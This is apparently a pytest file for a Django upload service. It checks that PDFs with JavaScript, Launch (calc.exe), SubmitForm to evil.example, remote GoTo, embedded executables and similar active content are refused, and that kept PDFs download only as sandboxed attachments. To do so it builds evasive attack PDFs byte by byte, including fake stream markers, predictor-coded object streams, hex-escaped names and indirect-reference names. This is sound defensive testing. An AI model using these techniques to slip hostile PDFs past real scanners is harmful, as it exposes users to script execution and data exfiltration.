"""Finding 4: PDFs that act instead of being read are refused, and no PDF is shown inline.

The old filter scanned bytes by hand. A string holding ``>> stream`` made it
skip the JavaScript that followed, and JavaScript inside an object stream coded
with a PNG predictor was never seen. Both attack files are written here byte by
byte, proven to be real PDFs that a PDF reader resolves to a JavaScript action,
and refused: by ``inspect_upload``, by the upload service, on the upload page
and through the API. A PDF that is kept is sent as a download (attachment,
``nosniff``, a sandboxing CSP), privately and on the public results page.
"""

import io
import zlib

import pytest
from django.core.exceptions import ValidationError
from django.urls import reverse
from django.utils import translation
from pypdf import PdfReader, PdfWriter
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    TextStringObject,
)

from reglab.core.uploads import UploadRefused, inspect_upload
from reglab.provrum.models import Document
from tests.provrum import work_samples as samples
from tests.provrum.api_client import ApiClient
from tests.provrum.conftest import cast, make_provrum  # noqa: F401 – fixtures
from tests.provrum.views_helpers import sign_in
from tests.provrum.work_fixtures import (
    add_document,
    people_fixture,  # noqa: F401 – a fixture
    running_fixture,  # noqa: F401 – a fixture
    upload,
)
from tests.results.conftest import publish, report_data

JAVASCRIPT = b"/S /JavaScript /JS (app.alert\\(1\\))"


# The attack files ---------------------------------------------------------------------


def fake_stream_pdf(action: bytes = JAVASCRIPT) -> bytes:
    """A string literal says ``>> stream`` and a later one ``endstream``: a byte scanner
    skips what lies between as stream data, where this file keeps its OpenAction."""
    catalog = b"/Lang (>> stream\n) /OpenAction << " + action + b" >> /Trap (endstream)"
    return samples.hand_pdf(catalog)


def png_up(data: bytes, columns: int) -> bytes:
    """``data`` coded with the PNG "Up" predictor (each row minus the row above)."""
    data += b" " * (-len(data) % columns)
    out = bytearray()
    above = bytes(columns)
    for start in range(0, len(data), columns):
        row = data[start : start + columns]
        out.append(2)
        out += bytes((byte - over) % 256 for byte, over in zip(row, above, strict=True))
        above = row
    return bytes(out)


def object_stream_pdf(inner=(b"<< " + JAVASCRIPT + b" >>",), *, catalog=b"/OpenAction 5 0 R",
                      columns=7) -> bytes:  # fmt: skip
    """A PDF 1.5 with a cross-reference stream whose objects 5… live in object stream 4,
    FlateDecode with /DecodeParms << /Predictor 12 /Columns ``columns`` >>."""
    numbers = range(5, 5 + len(inner))
    body = b""
    offsets = []
    for part in inner:
        offsets.append(len(body))
        body += part + b"\n"
    header = b" ".join(b"%d %d" % pair for pair in zip(numbers, offsets, strict=True)) + b"\n"
    packed = zlib.compress(png_up(header + body, columns))
    object_stream = (
        b"<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode "
        b"/DecodeParms << /Predictor 12 /Columns %d >> /Length %d >>\nstream\n"
        % (len(inner), len(header), columns, len(packed))
        + packed
        + b"\nendstream"
    )
    plain = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
        object_stream,
    ]
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    at = {}
    for number, part in enumerate(plain, start=1):
        at[number] = len(out)
        out += b"%d 0 obj\n" % number + part + b"\nendobj\n"
    xref_number = 5 + len(inner)
    at[xref_number] = len(out)
    rows = [b"\x00" + bytes(4) + b"\xff\xff"]
    for number in range(1, xref_number + 1):
        if number in at:
            rows.append(b"\x01" + at[number].to_bytes(4, "big") + b"\x00\x00")
        else:
            rows.append(b"\x02" + (4).to_bytes(4, "big") + (number - 5).to_bytes(2, "big"))
    table = b"".join(rows)
    out += (
        b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n"
        % (xref_number, xref_number + 1, len(table))
        + table
        + b"\nendstream\nendobj\n"
    )
    out += b"startxref\n%d\n%%%%EOF\n" % at[xref_number]
    return bytes(out)


def refused(name: str, data: bytes) -> UploadRefused:
    with pytest.raises(UploadRefused) as caught:
        inspect_upload(name, data)
    assert name in caught.value.message
    return caught.value


# The attack files are real -------------------------------------------------------------


@pytest.mark.parametrize(
    "make", [fake_stream_pdf, object_stream_pdf], ids=["fake-stream", "objstm"]
)
def test_the_attack_files_open_with_a_javascript_action(make):
    data = make()
    action = PdfReader(io.BytesIO(data), strict=True).trailer["/Root"]["/OpenAction"].get_object()
    assert action["/S"] == "/JavaScript"
    assert action["/JS"] == "app.alert(1)"


def test_the_object_stream_hides_the_name_from_a_plain_search():
    data = object_stream_pdf()
    assert b"JavaScript" not in data
    assert b"JavaScript" not in zlib.decompress(data.split(b"stream\n")[1].split(b"\nendstream")[0])


# Refused by the checks -------------------------------------------------------------------


def test_a_fake_stream_in_a_string_does_not_hide_javascript():
    assert refused("rapport.pdf", fake_stream_pdf()).code == "pdf_javascript"


def test_javascript_in_a_predictor_coded_object_stream_is_found():
    assert refused("rapport.pdf", object_stream_pdf()).code == "pdf_javascript"


@pytest.mark.parametrize("columns", [1, 3, 64])
def test_any_row_width_of_the_predictor_is_read(columns):
    assert refused("rapport.pdf", object_stream_pdf(columns=columns)).code == "pdf_javascript"


@pytest.mark.parametrize(
    "action",
    [
        b"/S /J#61vaScript /J#53 (x)",
        b"/#53 /#4a#61#76#61#53#63#72#69#70#74 /#4A#53 (x)",
    ],
    ids=["hex-escaped-value", "every-letter-escaped"],
)
@pytest.mark.parametrize("make", [fake_stream_pdf, lambda action: object_stream_pdf(
    (b"<< " + action + b" >>",))], ids=["fake-stream", "objstm"])  # fmt: skip
def test_obfuscated_names_are_decoded(make, action):
    assert refused("rapport.pdf", make(action)).code == "pdf_javascript"


def test_an_object_stream_object_that_no_table_lists_is_still_read():
    # Object 6 sits in the object stream, but the cross-reference stream lists only 5.
    data = object_stream_pdf((b"<< /S /GoTo /D [3 0 R /Fit] >>", b"<< " + JAVASCRIPT + b" >>"))
    assert refused("rapport.pdf", data).code == "pdf_javascript"


def with_startxref_fixed(data: bytes) -> bytes:
    """A hand-written PDF changed before its table: startxref pointed at the table again."""
    at = data.index(b"xref\n0 ")
    return data[: data.rindex(b"startxref")] + b"startxref\n%d\n%%%%EOF\n" % at


def test_an_object_no_table_lists_is_still_read():
    # The table points at a harmless catalog; a second object 1, a catalog with a script,
    # is what a viewer that rebuilds the file (finding the table wrong) would take.
    second = b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction << " + JAVASCRIPT + b" >> >>"
    data = samples.hand_pdf().replace(b"xref\n", second + b"\nendobj\nxref\n", 1)
    assert refused("rapport.pdf", with_startxref_fixed(data)).code == "pdf_javascript"


@pytest.mark.parametrize(
    ("catalog", "objects", "code"),
    [
        (b"/OpenAction << /S /Launch /F (calc.exe) >>", (), "pdf_launch"),
        (b"/OpenAction << /S /L#61unch /F (calc.exe) >>", (), "pdf_launch"),
        (b"/Names << /JavaScript << /Names [(a) 4 0 R] >> >>", [b"<< " + JAVASCRIPT + b" >>"],
         "pdf_javascript"),
        (b"/Names << /EmbeddedFiles << /Names [(a.exe) 4 0 R] >> >>",
         [b"<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>",
          samples.stream_object(b"<< /Type /EmbeddedFile >>", b"MZ")], "pdf_embedded_file"),
        (b"/OpenAction << /S /Named /N /Print >>", (), "pdf_active_content"),
        (b"/OpenAction << /S /SubmitForm /F << /FS /URL /F (https://evil.example/) >> >>", (),
         "pdf_active_content"),
        (b"/OpenAction << /S /ImportData /F (data.fdf) >>", (), "pdf_active_content"),
        (b"/OpenAction << /S /GoToR /F (\\\\\\\\evil\\\\share\\\\x.pdf) /D [0 /Fit] >>", (),
         "pdf_active_content"),
        (b"/OpenAction << /S /GoToE /F (other.pdf) /D [0 /Fit] >>", (), "pdf_active_content"),
        (b"/AA << /WC << /S /GoTo /D [3 0 R /Fit] >> >>", (), "pdf_active_content"),
        (b"/AcroForm << /Fields [] /XFA 4 0 R >>",
         [samples.stream_object(b"<< >>", b"<xdp:xdp/>")], "pdf_active_content"),
        (b"", [b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>"], "pdf_active_content"),
        (b"", [b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] "
               b"/A << /S /GoToR /F (http://evil.example/x.pdf) /D [0 /Fit] >> >>"],
         "pdf_active_content"),
        (b"/AcroForm << /Fields [4 0 R] >>",
         [b"<< /FT /Btn /T (skicka) /Rect [0 0 9 9] /A << /S /SubmitForm "
          b"/F (https://evil.example/) >> >>"], "pdf_active_content"),
        (b"", [b"<< /FT /Tx /T (f) /AA << /K << /S /JavaScript /JS (x) >> >> >>"],
         "pdf_javascript"),
    ],
    ids=[
        "launch", "launch-escaped", "names-javascript", "embedded-file", "named-print",
        "submit-form", "import-data", "goto-remote", "goto-embedded", "catalog-aa", "xfa",
        "rich-media", "link-goto-remote", "form-field-submit", "field-aa-javascript",
    ],
)  # fmt: skip
def test_other_active_content_is_refused(catalog, objects, code):
    data = samples.hand_pdf(catalog, objects=objects)
    assert refused("rapport.pdf", data).code == code
    # The same objects inside a predictor-coded object stream are found too (streams
    # cannot live in an object stream).
    if objects and not any(b"stream" in part for part in objects):
        data = object_stream_pdf(tuple(objects), catalog=catalog.replace(b"4 0 R", b"5 0 R"))
        assert refused("rapport.pdf", data).code == code


def test_a_page_with_additional_actions_is_refused():
    page_actions = b"/MediaBox [0 0 595 842] /A#41 << /O << /S /GoTo /D [0 /Fit] >> >>"
    data = with_startxref_fixed(
        samples.hand_pdf().replace(b"/MediaBox [0 0 595 842]", page_actions)
    )
    assert refused("rapport.pdf", data).code == "pdf_active_content"


def test_the_message_is_swedish():
    with translation.override("sv"):
        message = refused("rapport.pdf", samples.hand_pdf(b"/OpenAction << /S /Named /N /Print >>"))
    assert "rapport.pdf" in message.message
    assert "PDF" in message.message and "kan inte laddas upp" in message.message


# What cannot be read is refused ---------------------------------------------------------


def encrypted_pdf(password: str = "") -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    writer.encrypt(user_password=password, owner_password="ägare", algorithm="AES-256")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


@pytest.mark.parametrize("password", ["", "hemligt"], ids=["no-user-password", "password"])
def test_an_encrypted_pdf_is_refused_with_a_swedish_message(password):
    with translation.override("sv"):
        refusal = refused("skyddad.pdf", encrypted_pdf(password))
    assert refusal.code == "pdf_encrypted"
    assert "krypterad" in refusal.message


def garbled_object_stream(data: bytes) -> bytes:
    """The PDF with its object stream's packed data replaced by bytes that do not unpack."""
    start = data.index(b"stream\n", data.index(b"/ObjStm")) + len(b"stream\n")
    end = data.index(b"\nendstream", start)
    return data[:start] + b"\x8f" * (end - start) + data[end:]


@pytest.mark.parametrize(
    "make",
    [
        lambda: samples.hand_pdf().replace(b"<< /Type /Pages", b"<< /Type /Pages <<"),
        lambda: samples.hand_pdf().replace(b"2 0 obj\n", b"2 0 obj\n(unclosed "),
        lambda: garbled_object_stream(object_stream_pdf()),
    ],
    ids=["unbalanced-dictionary", "unclosed-string", "garbled-object-stream"],
)
def test_a_pdf_that_cannot_be_parsed_is_refused(make):
    assert refused("rapport.pdf", make()).code == "pdf_broken"


# Harmless PDFs are kept ------------------------------------------------------------------


def pypdf_pdf_with_links() -> bytes:
    """A PDF written by pypdf with a web link and a link to its own page."""
    writer = PdfWriter()
    page = writer.add_blank_page(595, 842)
    for action in (
        DictionaryObject({NameObject("/S"): NameObject("/URI"),
                          NameObject("/URI"): TextStringObject("https://reglab.se/")}),
        DictionaryObject({NameObject("/S"): NameObject("/GoTo"),
                          NameObject("/D"): ArrayObject([page.indirect_reference,
                                                         NameObject("/Fit")])}),
    ):  # fmt: skip
        annotation = DictionaryObject(
            {
                NameObject("/Type"): NameObject("/Annot"),
                NameObject("/Subtype"): NameObject("/Link"),
                NameObject("/Rect"): ArrayObject([FloatObject(n) for n in (10, 10, 90, 30)]),
                NameObject("/A"): action,
            }
        )
        writer.add_annotation(page_number=0, annotation=annotation)
    writer.add_metadata({"/Title": "Slutrapport"})
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


@pytest.mark.parametrize(
    "make",
    [
        samples.weasyprint_pdf,
        lambda: __import__("weasyprint").HTML(
            string='<p><a href="https://reglab.se/">Reglab</a> <a href="#b">b</a></p>'
            '<h2 id="b">B</h2>'
        ).write_pdf(),
        pypdf_pdf_with_links,
        samples.hand_pdf,
        lambda: samples.hand_pdf(b"/OpenAction [3 0 R /Fit]"),
        lambda: samples.hand_pdf(b"/OpenAction << /S /GoTo /D [3 0 R /Fit] >>"),
        lambda: object_stream_pdf((b"<< /S /URI /URI (https://reglab.se/) >>",),
                                  catalog=b"/Outlines << /Count 0 >>"),
    ],
    ids=["weasyprint", "weasyprint-links", "pypdf-links", "hand", "open-at-page",
         "open-goto", "objstm-uri"],
)  # fmt: skip
def test_harmless_pdfs_are_accepted(make):
    assert inspect_upload("rapport.pdf", make()).kind == "pdf"


# Through the service, the page and the API -----------------------------------------------

ATTACKS = [fake_stream_pdf, object_stream_pdf]


@pytest.mark.django_db
@pytest.mark.parametrize("make", ATTACKS, ids=["fake-stream", "objstm"])
def test_the_upload_service_refuses_the_attacks(running, people, make):
    with pytest.raises(ValidationError) as caught:
        add_document(running, people["leader"], name="rapport.pdf", data=make())
    error = caught.value.error_dict["file"][0]
    assert error.code == "pdf_javascript"
    assert "rapport.pdf" in error.message
    assert not Document.objects.exists()


@pytest.mark.django_db
@pytest.mark.parametrize("make", ATTACKS, ids=["fake-stream", "objstm"])
def test_the_upload_page_refuses_the_attacks(client, running, people, make):
    response = sign_in(client, people["participant"]).post(
        reverse("provrum:document_upload", args=[running.pk]),
        {"file": upload("Rapport.pdf", make()), "description": "Slutrapport"},
    )
    assert response.status_code == 422
    page = response.content.decode()
    assert 'data-codes="pdf_javascript"' in page
    assert "Rapport.pdf" in page and "JavaScript" in page
    assert not Document.objects.exists()


@pytest.mark.django_db
@pytest.mark.parametrize("make", ATTACKS, ids=["fake-stream", "objstm"])
def test_the_api_refuses_the_attacks(client, running, people, make):
    from django.core.files.uploadedfile import SimpleUploadedFile

    response = client.post(
        f"/api/v1/provrum/{running.pk}/documents",
        {"file": SimpleUploadedFile("rapport.pdf", make())},
        headers=ApiClient(client, people["leader"]).headers,
    )
    assert response.status_code == 422
    message = response.json()["fields"]["file"][0]
    assert "rapport.pdf" in message and "JavaScript" in message
    assert not Document.objects.exists()


# A PDF is downloaded, never shown inline -------------------------------------------------


def assert_downloaded(response, name_quoted: str):
    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    assert response["Content-Disposition"].startswith("attachment;")
    assert f"filename*=utf-8''{name_quoted}" in response["Content-Disposition"]
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Security-Policy"].split(";")[0].strip() == "sandbox"


@pytest.mark.django_db
def test_a_pdf_is_downloaded_from_the_provrum(client, running, people):
    document = add_document(running, people["leader"], name="Rapport å.pdf")
    response = sign_in(client, people["participant"]).get(
        reverse("provrum:document", args=[running.pk, document.pk])
    )
    assert_downloaded(response, "Rapport%20%C3%A5.pdf")
    assert b"".join(response.streaming_content) == samples.hand_pdf()


@pytest.mark.django_db
def test_a_published_pdf_is_downloaded_by_anyone(client, running, people):
    document = add_document(running, people["leader"], name="Analys ö.pdf")
    publish(running, data=report_data(attachments=[document.pk]))
    response = client.get(reverse("results:attachment", args=[running.pk, document.pk]))
    assert_downloaded(response, "Analys%20%C3%B6.pdf")
    assert b"".join(response.streaming_content) == samples.hand_pdf()


# Names given by reference (issue 10, second round) ----------------------------------------
#
# ``/S 4 0 R`` with object 4 the name ``/Launch`` is the same action to a viewer, but
# the checker compared the reference itself with the names it looks for.


@pytest.mark.parametrize(
    ("catalog", "objects", "code"),
    [
        (b"/OpenAction << /S 4 0 R /F (calc.exe) >>", [b"/Launch"], "pdf_launch"),
        (b"/OpenAction 4 0 R", [b"<< /S 5 0 R /F (calc.exe) >>", b"/L#61unch"], "pdf_launch"),
        (b"", [b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] "
               b"/A << /S 5 0 R /F (https://evil.example/) >> >>", b"/SubmitForm"],
         "pdf_active_content"),
        (b"", [b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] "
               b"/A << /S 5 0 R /F (x.pdf) /D [0 /Fit] >> >>", b"/GoToR"], "pdf_active_content"),
        (b"", [b"<< /Type /Annot /Subtype 5 0 R /Rect [0 0 9 9] >>", b"/RichMedia"],
         "pdf_active_content"),
        (b"", [b"<< /Type /Annot /Subtype 5 0 R /Rect [0 0 9 9] /FS (a.exe) >>",
               b"/FileAttachment"], "pdf_embedded_file"),
        (b"", [b"<< /Type /Annot /Subtype 5 0 R /Rect [0 0 9 9] /Movie << /F (m.mov) >> >>",
               b"/Movie"], "pdf_active_content"),
        (b"", [samples.stream_object(b"<< /Type 5 0 R >>", b"MZ"), b"/EmbeddedFile"],
         "pdf_embedded_file"),
    ],
    ids=["launch", "launch-twice-indirect", "submit-form", "goto-remote", "rich-media",
         "file-attachment", "movie", "embedded-file-type"],
)  # fmt: skip
def test_names_given_by_reference_are_resolved(catalog, objects, code):
    data = samples.hand_pdf(catalog, objects=objects)
    assert refused("rapport.pdf", data).code == code
    if not any(b"stream" in part for part in objects):
        moved = object_stream_pdf(
            tuple(part.replace(b"5 0 R", b"6 0 R") for part in objects),
            catalog=catalog.replace(b"5 0 R", b"6 0 R").replace(b"4 0 R", b"5 0 R"),
        )
        assert refused("rapport.pdf", moved).code == code


def test_the_reference_attack_file_is_real():
    data = samples.hand_pdf(b"/OpenAction << /S 4 0 R /F (calc.exe) >>", objects=[b"/Launch"])
    action = PdfReader(io.BytesIO(data), strict=True).trailer["/Root"]["/OpenAction"]
    assert action["/S"] == "/Launch"  # pypdf resolves the reference on reading


@pytest.mark.parametrize(
    "objects",
    [
        [b"<< /Type /Annot /Subtype 5 0 R /Rect [0 0 9 9] "
         b"/A << /S /URI /URI (https://reglab.se/) >> >>", b"/Link"],
        [b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] "
         b"/A << /S 5 0 R /URI (https://reglab.se/) >> >>", b"/URI"],
        [b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S 5 0 R /D [3 0 R /Fit] >> >>",
         b"/GoTo"],
    ],
    ids=["link-subtype", "uri-action", "goto-action"],
)  # fmt: skip
def test_harmless_names_given_by_reference_are_accepted(objects):
    data = samples.hand_pdf(b"", objects=objects)
    assert inspect_upload("rapport.pdf", data).kind == "pdf"
